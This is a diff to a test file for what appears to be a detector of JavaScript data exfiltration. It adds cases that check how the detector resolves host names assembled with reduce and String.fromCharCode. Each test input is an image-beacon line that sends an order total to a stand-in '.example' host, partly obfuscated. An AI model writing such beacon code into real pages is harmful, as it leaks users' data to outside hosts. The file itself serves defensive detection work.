@@ -271,7 +271,9 @@ def test_a_callback_that_reads_what_is_unknown_leaves_the_host_unknown():
     # A reduce: spelled when it ends in a string; a number, no initial value, four parameters: not.
     for spelled, host in (("[104, 105].reduce((a, c) => a + String.fromCharCode(c), '')", "xhi.example"),
                           ("[1, 2, 3].reduce((a, c) => a + c, 0)", None), ("[104, 105].reduce((a, c) => a + c)", None),
-                          ("[104, 105].reduce((a, c, i, all) => a + c, '')", None)):
+                          ("[104, 105].reduce((a, c, i, all) => a + c, '')", None),
+                          # an array to start from, or as an element, is not its text: [104, 105] is '104,105'
+                          ("[104, 105].reduce((a, c) => a.concat(c), [])", None), ("[[104], [105]].map(c => c + 1).join('')", None)):
         code = f"new Image().src = 'https://x' + {spelled} + '.example/?' + flowUi.get('order.total');"
         assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[host] if host else []], spelled
     # Promises, a destructured or defaulted parameter: not followed.
